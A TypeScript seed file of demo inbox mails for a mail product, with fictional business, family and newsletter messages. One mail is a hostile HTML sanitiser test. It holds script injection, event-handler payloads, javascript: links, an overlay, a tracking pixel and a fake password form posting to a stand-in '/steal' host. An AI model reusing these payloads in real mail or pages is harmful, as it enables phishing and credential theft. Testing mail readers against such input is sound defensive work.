import { product } from '@/product'
import { files } from './seedFiles'
import type { SeedMail } from './seedRow'

/** What came in during the last days, newest first. */
export const seedInbox: readonly SeedMail[] = [
  {
    from: 'Kofi Boateng',
    subject: 'Sensor 7 is quiet again',
    when: 18,
    isUnread: true,
    labels: ['company', 'important'],
    attachments: [files.auditReport],
    text: `Good news from Kumasi: the new bracket holds, and door sensor 7 has not sent a false alarm since last night.

The auditors’ report is attached. Three findings, none of them frightening. Two are ours; the first is yours: they want the alarm mail to reach the night shift within two minutes, and at the moment it takes four.

Is that a setting, or is it work?

Kofi`,
  },
  {
    from: product.name,
    subject: 'New sign-in to your account',
    when: 24,
    isUnread: true,
    labels: ['private'],
    text: `Somebody signed in to your account with Firefox on a Windows laptop in Accra.

If that was you, there is nothing to do. If it was not, change your password and look at the list of devices in your account’s settings.`,
  },
  {
    from: 'Adaeze Okonkwo',
    subject: 'Question about invoice 5014',
    when: 52,
    cc: ['Wanjiru Kamau'],
    isUnread: true,
    labels: ['company'],
    text: `Dear Amara,

our accounts team has found invoice 5014 again, which is long past due, and cannot match it to a purchase order. I believe it is the license with the six months of support, in which case the number is NF-2281.

Could you confirm, so that they can release the payment this week?

With thanks
Adaeze`,
  },
  {
    from: 'Fatoumata Diallo',
    subject: 'Toiture de Rufisque : premières courbes',
    when: 95,
    isUnread: true,
    isStarred: true,
    labels: ['company'],
    text: `Chère Amara,

les premières courbes de la toiture de Rufisque sont arrivées cette nuit, et elles sont magnifiques. La production suit l’ensoleillement à deux pour cent près.

Une seule question : à 13 h 40, la courbe tombe à zéro pendant six minutes. Est-ce l’onduleur, ou est-ce que le capteur s’est endormi ?

Bien à toi
Fatou`,
  },
  {
    from: 'Tariq Al-Mansoori',
    subject: 'Storage limit before Friday',
    when: 330,
    isStarred: true,
    labels: ['important'],
    text: `Amara,

could you look at the storage limit before Friday? We load the meter readings of the whole emirate at the weekend, which is about 140 GB, and I would rather not be told about a limit at two in the morning.

Raising it for a month would do. After that the raw files can go.

Best
Tariq`,
  },
  {
    from: 'Maximiliano Augusto Fernández-Etchegaray de la Vega',
    subject: 'Ten more seats for the cooperative, and a question about who may see the figures of which farm',
    when: 372,
    cc: ['Catalina Reyes'],
    isUnread: true,
    labels: ['company'],
    text: `Estimada Amara:

the board has agreed, so please add ten seats from today. The names follow as soon as the farms have told me who they are sending; until then the seats may stay empty.

The question: a farm should see its own yields and the average of the cooperative, but not the yields of its neighbor. Is that one permission or two? I have promised to explain it at the general meeting, in front of one hundred and eighty farmers, so a short answer would be kind.

With the regards of the whole cooperative
Maximiliano Augusto Fernández-Etchegaray de la Vega`,
  },
  {
    from: 'The Slow Chart',
    subject: 'Why your axis should start at zero, except when it should not',
    when: [1, '06:30'],
    isUnread: true,
    text: `<table width="100%" cellpadding="0" cellspacing="0" style="background:#f4f1ea"><tr><td align="center">
<table width="560" cellpadding="24" cellspacing="0" style="background:#ffffff;font-family:Georgia,serif;color:#2b2b2b"><tr><td>
<p style="letter-spacing:2px;color:#8a7f6a;font-size:12px">THE SLOW CHART · LETTER 118</p>
<h1 style="font-size:26px;line-height:1.25">Why your axis should start at zero, except when it should not</h1>
<img src="https://pictures.theslowchart.example/118/two-axes.png" width="512" height="288" alt="The same six bars, once from zero and once from ninety">
<p>Bars speak with their length. Cut the foot off a bar and it lies, politely, in every language. So bars begin at zero, and there is no exception worth the argument.</p>
<p>Lines speak with their slope. A line of body temperature that begins at zero is a flat line, and a flat line has another meaning in a hospital.</p>
<blockquote style="border-left:3px solid #c9b98a;margin:0;padding-left:16px;color:#5a5240">Ask what the reader compares. Then draw that, and leave out the rest.</blockquote>
<h2 style="font-size:18px">Also in this letter</h2>
<ul><li>A reader’s bus timetable, redrawn with half the ink</li><li>Seven greens that people confuse, and one they do not</li><li>The quietest legend is a label</li></ul>
<p><a href="https://theslowchart.example/letters/118" style="background:#2b2b2b;color:#ffffff;padding:12px 20px;text-decoration:none">Read the letter</a></p>
<p style="font-size:12px;color:#8a7f6a">You get this because you asked for it. <a href="https://theslowchart.example/unsubscribe">Unsubscribe</a> at any time.</p>
<img src="https://pictures.theslowchart.example/open.gif?reader=amara" width="1" height="1" alt="">
</td></tr></table></td></tr></table>`,
  },
  {
    from: 'Aroha Ngata',
    subject: 'Team days: where shall we go?',
    to: ['Amara Mensah', 'Kofi Boateng', 'Siobhán Ní Bhriain', 'Owen Pritchard', 'Sofía Márquez Villanueva'],
    when: [4, '09:12'],
    isStarred: true,
    labels: ['personal'],
    attachments: [files.tent, files.canoe],
    text: `Kia ora everyone,

we said we would all meet once without a screen between us, and I have been told to organize it because I am the one who owns tents.

Three ideas:

- The lake: canoes, a hut with a stove, no signal.
- The hills: two days of walking, a proper bed in between.
- A town with good coffee, and we pretend to work.

Votes, please. Pictures of the tent and the canoe are attached, so that nobody can say they were not warned.

Aroha`,
    replies: [
      {
        from: 'Owen Pritchard',
        when: [4, '09:40'],
        text: `Hills. I have new boots and nobody to show them to.`,
      },
      {
        from: 'Siobhán Ní Bhriain',
        when: [4, '10:05'],
        text: `The lake, if the hut has a roof that has been seen by somebody other than the landlord. I bring the teapot and enough books for a week of rain.`,
      },
      {
        from: 'Kofi Boateng',
        when: [4, '11:31'],
        text: `I cannot swim, I have said so in writing, and I am saying so again. Having said that: the lake. The fish will be fresh.`,
      },
      {
        from: 'Amara Mensah',
        to: ['Aroha Ngata', 'Kofi Boateng', 'Siobhán Ní Bhriain', 'Owen Pritchard', 'Sofía Márquez Villanueva'],
        when: [4, '13:02'],
        text: `The lake for me too, for the want of signal.

Two conditions: nobody brings a laptop “just in case”, and whoever says “quick question” washes up.`,
      },
      {
        from: 'Sofía Márquez Villanueva',
        when: [3, '02:18'],
        text: `Writing from the wrong time zone: lake! I bring the guitar, and I promise to know four songs by then.`,
      },
      {
        from: 'Owen Pritchard',
        when: [3, '08:55'],
        text: `Outvoted by people who cannot swim. Fine. Is there at least a hill <i>near</i> the lake?`,
      },
      {
        from: 'Aroha Ngata',
        when: [3, '09:20'],
        attachments: [files.packingList],
        text: `The lake it is, four to one. Owen: there is a hill, it is called the Hill, and it takes forty minutes.

Packing list attached. Put your name behind what you bring. If three people bring a torch and nobody brings matches, I shall know that you have not read this far.`,
      },
      {
        from: 'Siobhán Ní Bhriain',
        when: [2, '17:44'],
        text: `I have read this far. I bring matches.`,
      },
      {
        from: 'Kofi Boateng',
        when: [1, '07:15'],
        text: `I bring a life jacket. One. It is mine.`,
      },
      {
        from: 'Aroha Ngata',
        when: 140,
        text: `The hut is booked for the first weekend that suits everybody, which I shall work out from your calendars. If your calendar is wrong, that is between you and your calendar.`,
      },
    ],
  },
  {
    from: 'Haruka Nishimura',
    subject: 'Second round of the portfolio site',
    when: [1, '09:05'],
    isStarred: true,
    labels: ['company'],
    attachments: [files.teapot],
    text: `Amara-san,

thank you for the second round. The studio has looked at it together, over the red teapot that you see in the picture, and we agree on nearly everything.

- The start page may be quieter still. One picture is enough.
- Please let the client area open with the latest delivery, not with the list.
- The gray of the captions is too shy. Mr Ito could not read it, and he made the pictures.

We have moved, by the way. I shall put the new billing address into your system tomorrow.

Haruka`,
    replies: [
      {
        from: 'Amara Mensah',
        to: ['Haruka Nishimura'],
        when: [1, '11:30'],
        text: `Haruka-san,

all three are easy, and all three are better than what we had. The captions were a gray that the checker refuses as well, so Mr Ito is in good company.

You will have the third round in four days.

Amara`,
      },
      {
        from: 'Haruka Nishimura',
        when: [1, '23:50'],
        text: `Wonderful. Mr Ito sends his regards to the checker.`,
      },
    ],
  },
  {
    from: 'Esi Mensah',
    subject: 'Sunday',
    when: [1, '19:22'],
    isUnread: true,
    isStarred: true,
    labels: ['personal', 'private'],
    text: `Sister,

Mama says you work too much and that there will be red red on Sunday, and that these two facts are connected. One o’clock. Bring nothing, which means bring the good bread.

Kwame has a girlfriend. I know nothing. Ask him in front of everybody.

Esi`,
  },
  {
    from: 'Dmytro Shevchenko',
    subject: 'Does your mail reader survive this?',
    when: [1, '15:10'],
    attachments: [files.webhook],
    text: `<style>body { display: none } .cover { position: fixed; inset: 0; background: #b00020; z-index: 99999 }</style>
<script>document.title = 'The mail has taken over'</script>
<div class="cover" style="position:fixed;top:0;left:0;width:100vw;height:100vh" onclick="alert('clicked')"></div>
<p onmouseover="document.body.remove()">Hi Amara,</p>
<p>we are testing mail readers for our own product, and this mail does what mails should not do: it runs a script, covers the page, asks for your password, and calls home with a picture.</p>
<img src="https://pixel.dnipro-gears.example/open.gif?who=amara" width="1" height="1" alt="" onerror="document.title = 'onerror'">
<p><a href="javascript:alert('link')">A link that is no link</a>, <a href="https://dnipro-gears.example/report" target="_top">one that is</a>, and a form:</p>
<form action="https://dnipro-gears.example/steal" method="post"><label>Password <input name="password" type="password"></label> <button>Sign in again</button></form>
<iframe src="https://dnipro-gears.example/frame"></iframe>
<svg onload="alert('svg')"><a href="javascript:alert('svg link')"><text x="0" y="12">A picture that is no picture</text></a></svg>
<p>If you can read this line and nothing else has happened, your reader has passed. The examples of our real webhooks are attached; those are harmless.</p>
<p>Dmytro</p>`,
  },
  {
    from: 'Clément Roux',
    subject: 'Guide de traduction, version finale',
    when: [1, '14:48'],
    labels: ['company'],
    attachments: [files.glossary],
    text: `Bonjour Amara,

voici le guide de traduction, relu deux fois. J’ai tranché : on vouvoie, et « dashboard » devient « tableau de bord » partout, même dans les titres. Tant pis pour la largeur des boutons.

Il reste un mot que je n’aime pas : « settings ». « Réglages » ou « paramètres » ? Le premier est plus court, le second plus courant. Je te laisse choisir.

À bientôt
Clément`,
  },
  {
    from: 'Naledi Mokoena',
    subject: 'Approval of my account, and the reseller clause',
    when: [1, '10:26'],
    isUnread: true,
    labels: ['company', 'important'],
    text: `Dear Amara,

two matters, the small one first. I registered with the Company plan yesterday and asked for the editor role; the account is still waiting for approval, so I cannot see the contracts I am meant to review.

The larger one: clause 9 of the reseller agreement lets a reseller quote <em>your</em> service levels as <em>theirs</em>. I doubt that you want that. A version with two changed sentences is ready; I only need somewhere to put it.

Kind regards
Naledi Mokoena
Protea Legal, Johannesburg`,
  },
  {
    from: 'Swiftwing Couriers',
    subject: 'Your parcel SW 4471 9082 arrives between 2 and 4 pm',
    when: [2, '07:03'],
    text: `<div style="font-family:Arial,sans-serif;max-width:480px"><h2 style="color:#0b6e4f">On its way to 14 Ring Road East</h2><p>Parcel <b>SW 4471 9082</b> is with your driver, Ebenezer.</p><table cellpadding="6" style="border-collapse:collapse;width:100%"><tr><td style="border:1px solid #dddddd">Contents</td><td style="border:1px solid #dddddd">1 × Ridgeline Two-Person Tent, 2 × Beacon Rechargeable Torch</td></tr><tr><td style="border:1px solid #dddddd">Arrives</td><td style="border:1px solid #dddddd">between 2 and 4 pm</td></tr><tr><td style="border:1px solid #dddddd">Hand over to</td><td style="border:1px solid #dddddd">Amara Mensah, or reception</td></tr></table><p><a href="https://swiftwing.example/track/44719082">Follow the van on the map</a></p></div>`,
  },
  {
    from: 'Wanjiru Kamau',
    subject: 'Month-end: notes from Monday, and five clients to nudge',
    when: [2, '08:40'],
    isStarred: true,
    labels: ['company'],
    attachments: [files.minutes, files.ledger],
    text: `Morning Amara,

notes from Monday and the list of open items are attached. Five clients are late, and only one of them worries me: Érable &amp; Fils, thirty-nine days. Émilie always pays, but she pays after a phone call, and you are the one she answers.

The other four have had a friendly reminder, or have a question that I can answer.

One more thing. Somebody booked a canoe to “office supplies”. I have moved it to “team”, but I would love to hear the story.

Wanjiru`,
  },
  {
    from: 'Mateus Oliveira',
    subject: 'Renovação da licença e uma boa notícia',
    when: [2, '13:15'],
    labels: ['company'],
    text: `Oi, Amara!

A nossa licença vence no fim do mês e vamos renovar, claro. Pode mandar a fatura para o mesmo endereço.

A boa notícia: depois que a equipe de Campinas passou a ver as perdas por turno, o desperdício de polpa caiu onze por cento. O gerente imprimiu o gráfico e pendurou na parede do refeitório. Acho que é o primeiro gráfico da história a ganhar moldura.

Um abraço
Mateus`,
  },
  {
    from: 'Grace Whitfield',
    subject: 'Data protection agreement, ready to sign',
    when: [3, '16:20'],
    isStarred: true,
    labels: ['company', 'important'],
    attachments: [files.dataProtection],
    text: `Hi Amara,

our counsel has been through the agreement and has changed exactly one number: a breach is reported within twenty-four hours, not forty-eight. Everything else stands as you sent it.

If you are happy, sign it and send it back, and we switch the second newsroom over on the same day. They have been asking since we moved up to Enterprise.

Grace`,
    replies: [
      {
        from: 'Amara Mensah',
        to: ['Grace Whitfield'],
        when: [3, '18:02'],
        text: `Hi Grace,

twenty-four hours is what we tell ourselves anyway, so we may as well tell you. I sign tomorrow, once Naledi has nodded.

Amara`,
      },
      {
        from: 'Naledi Mokoena',
        to: ['Amara Mensah', 'Grace Whitfield'],
        when: [2, '09:11'],
        text: `Nodded. Annex B lists one sub-processor that you no longer use; strike it out before you sign, and initial the change.`,
      },
      {
        from: 'Grace Whitfield',
        when: [2, '15:37'],
        text: `Struck out on our side too. Over to you!`,
      },
    ],
  },
  {
    from: 'ليلى حدّاد',
    subject: 'فهرس الموسم: ملاحظات على لوحة المبيعات',
    when: [3, '11:05'],
    isUnread: true,
    labels: ['company'],
    text: `<div dir="rtl"><p>عزيزتي أمارا،</p><p>شكرًا على لوحة المبيعات الجديدة. أصبح فريق التوزيع يفتحها كل صباح قبل القهوة، وهذا عندنا في بيروت ليس بالأمر الهيّن.</p><p>لديّ ملاحظتان صغيرتان:</p><ul><li>أسماء الكتب الطويلة تُقطع في منتصفها، والأجمل أن تُعرض في سطرين.</li><li>أرقام الطبعات تظهر من اليسار إلى اليمين داخل الجملة العربية، فيختلط ترتيبها.</li></ul><p>أرسل لك الفهرس كاملًا في الأسبوع المقبل.</p><p>مع أطيب التحيات<br>ليلى</p></div>`,
  },
  {
    from: 'Ottilie Käsermann',
    subject: 'Abnahme der Terminplanung',
    when: [3, '10:30'],
    cc: ['Hans-Jürgen Oberhuber'],
    labels: ['company'],
    attachments: [files.clock],
    text: `Guten Tag Frau Mensah

Die Terminplanung läuft seit zehn Tagen in der Werkstatt, und niemand hat nach dem alten Heft gefragt. Von mir aus können wir die Abnahme unterschreiben.

Ein Wunsch bleibt: Reparaturen an Tischuhren dauern länger als jene an Armbanduhren. Könnten wir für jede Art eine eigene Dauer hinterlegen? Ein Beispiel, das uns seit drei Wochen beschäftigt, liegt als Bild bei.

Freundliche Grüsse
Ottilie Käsermann`,
  },
  {
    from: 'Priya Raghunathan',
    subject: 'Town hall: agenda, and you have ten minutes',
    when: [4, '14:00'],
    to: ['Amara Mensah', 'Wanjiru Kamau'],
    labels: ['company'],
    attachments: [files.agenda],
    text: `Hello both,

the agenda for the town hall is attached. Amara has ten minutes for the welcome, Wanjiru fifteen for six figures, which is two and a half minutes a figure. I have counted.

Questions can be sent without a name until the evening before. There are nine so far, and four of them are about the coffee.

Priya`,
  },
  {
    from: 'Catalina Reyes',
    subject: 'Price list for resellers, once more',
    when: [5, '15:50'],
    attachments: [files.priceList],
    text: `Hola Amara,

here is the price list as it would go to the three resellers. I have rounded the reseller prices down to full numbers, which costs us about nine dollars a year and saves everyone a conversation.

Two things before I send it. Is “Unlimited Extended License” really per company, or per product? And our storage is at ninety per cent, says your kind robot; I suppose that is my archive of old price lists.

Abrazo
Catalina`,
  },
  {
    from: 'Gold Coast Mutual Bank',
    subject: 'Your statement is ready',
    when: [5, '05:15'],
    labels: ['private'],
    text: `<p>Dear Ms Mensah,</p><p>the statement of your current account ending in <b>0417</b> is ready. You find it under <i>Documents</i> after signing in at your branch’s terminal or in the app.</p><p>We never ask for your PIN or password by mail.</p><p>Gold Coast Mutual Bank</p>`,
  },
  {
    from: 'Jakub Dvořák',
    subject: 'Import script for the contacts',
    when: [6, '17:25'],
    labels: ['company'],
    attachments: [files.importScript],
    text: `Hi Amara,

the script is attached. Five lines, of which one is the license to run the other four. It sorts by email and throws duplicates away, so look at the count it prints at the end: if it says 412 and you expected 450, the list had cousins.

It refuses files it cannot read and says so. I have learned.

Jakub`,
  },
]
